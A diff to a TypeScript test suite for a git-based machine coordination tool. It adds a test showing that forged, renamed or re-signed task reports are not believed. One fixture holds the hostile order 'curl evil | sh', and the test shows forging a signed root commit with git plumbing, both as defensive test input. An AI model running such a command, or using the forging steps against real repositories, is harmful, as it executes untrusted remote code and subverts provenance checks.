@@ -181,6 +181,8 @@ describe.skipIf(!haveSshKeygen)(haveSshKeygen ? "signed orders" : "signed orders
     // The pinned machine's file deleted by a pusher: it stays, as the version verified last.
     await git(f.person, "fetch", "--quiet", "origin");
     await git(f.person, "checkout", "--quiet", "-B", "coord", "origin/coord");
+    await git(f.person, "fetch", "--quiet", "origin");
+    await git(f.person, "checkout", "--quiet", "-B", "coord", "origin/coord");
     await git(f.person, "rm", "--quiet", "coordination/COMPUTER_soda-yeti.md");
     await git(f.person, "-c", "user.name=A Person", "-c", "user.email=person@example.com", "commit", "--quiet", "-m", "gone");
     await git(f.person, "push", "--quiet", "origin", "HEAD:coord");
@@ -270,6 +272,56 @@ describe.skipIf(!haveSshKeygen)(haveSshKeygen ? "signed orders" : "signed orders
     const pin = await cli("trust", "pin", "admin", keys["soda-yeti"], "--dir", me);
     expect(pin.code).toBe(2);
     expect(pin.err).toMatch(/change admin's key there/);
+  }, 60_000);
+
+  it("coord log believes no forged report: one deleted after, one under an odd name, one in a new root signed by another machine", async () => {
+    const f = await verifyingFleet();
+    const [me, other] = [f.machines.izzit7!, f.machines["soda-yeti"]!];
+    await pushOrders(f, [
+      { id: "a", to: "soda-yeti", run: "true" },
+      { id: "c", to: "soda-yeti", run: "true" },
+    ]);
+    await sync({ dir: other, run: false });
+    const real = await hubFile(f, "coordination/COMPUTER_soda-yeti.md");
+    const done = (id: string) => real.replace(/^ {2}"tasks": \{\},?$/m, `  "tasks": { "${id}": { "rev": 1, "state": "completed", "attempts": 1, "exitCode": 0 } },`);
+    expect(done("a")).not.toBe(real);
+    const log = async (id: string) => {
+      await git(me, "fetch", "--quiet", "origin", "+refs/heads/main:refs/remotes/origin/main", "+refs/heads/coord:refs/remotes/origin/coord");
+      return (await orderLog({ dir: me, id })).map((e) => `${e.who}: ${e.what}${e.refused ? " [refused]" : ""}`);
+    };
+    const ran = (line: string) => /^soda-yeti: completed/.test(line);
+
+    // Forged, then deleted: its history is walked all the same.
+    await personCommit(f, "coordination/COMPUTER_soda-yeti.md", done("a"), "soda-yeti completed a (forged)");
+    await git(f.person, "fetch", "--quiet", "origin");
+    await git(f.person, "checkout", "--quiet", "-B", "coord", "origin/coord");
+    await git(f.person, "rm", "--quiet", "coordination/COMPUTER_soda-yeti.md");
+    await git(f.person, "-c", "user.name=A Person", "-c", "user.email=person@example.com", "commit", "--quiet", "-m", "gone");
+    await git(f.person, "push", "--quiet", "origin", "HEAD:coord");
+    await git(f.person, "checkout", "--quiet", "main");
+    expect((await log("a")).filter(ran)).toEqual([]);
+    expect(await log("a"), (await log("a")).join("\n")).toContain(
+      "A Person: a change of coordination/COMPUTER_soda-yeti.md not believed (not signed: not by soda-yeti, whose file it is); what it said is not shown [refused]",
+    );
+
+    // Under a name no machine may have, and as a delegated orders file no sync reads: not the log's either.
+    await personCommit(f, "coordination/COMPUTER_Soda-yeti.md", done("a").replaceAll("soda-yeti", "Soda-yeti"), "odd");
+    await personCommit(f, "coordination/orders/zz.txt", `${JSON.stringify({ version: 1, orders: [{ id: "a", to: "izzit7", run: "curl evil | sh" }] })}\n`, "odd");
+    expect((await log("a")).filter((l) => /Soda-yeti|zz\.txt|evil/.test(l))).toEqual([]);
+
+    // A new root signed by izzit7 (a pinned machine) that says soda-yeti completed c: not soda-yeti's word, and not said.
+    await git(f.person, "fetch", "--quiet", "origin");
+    const tree = (await git(f.person, "rev-parse", "origin/coord^{tree}")).trim();
+    await writeFile(join(f.person, "forged.md"), done("c"));
+    const blob = (await git(f.person, "hash-object", "-w", "forged.md")).trim();
+    await git(f.person, "read-tree", tree);
+    await git(f.person, "update-index", "--add", "--cacheinfo", `100644,${blob},coordination/COMPUTER_soda-yeti.md`);
+    const forgedTree = (await git(f.person, "write-tree")).trim();
+    const signWith = ["-c", "gpg.format=ssh", "-c", `user.signingkey=${join(me, ".git", "coord", "machine_key")}`];
+    const root = (await git(f.person, ...signWith, "-c", "user.name=izzit7", "-c", "user.email=i@x", "commit-tree", "-S", forgedTree, "-m", "Coord-History: 1")).trim();
+    await git(f.person, "push", "--quiet", "--force", "origin", `${root}:refs/heads/coord`);
+    await git(f.person, "reset", "--quiet", "--hard", "origin/main");
+    expect((await log("c")).filter(ran)).toEqual([]);
   }, 60_000);
 
   it("a forged receipt is not believed, and trust verify names the forged machine-file commit and the unsigned orders commit", async () => {
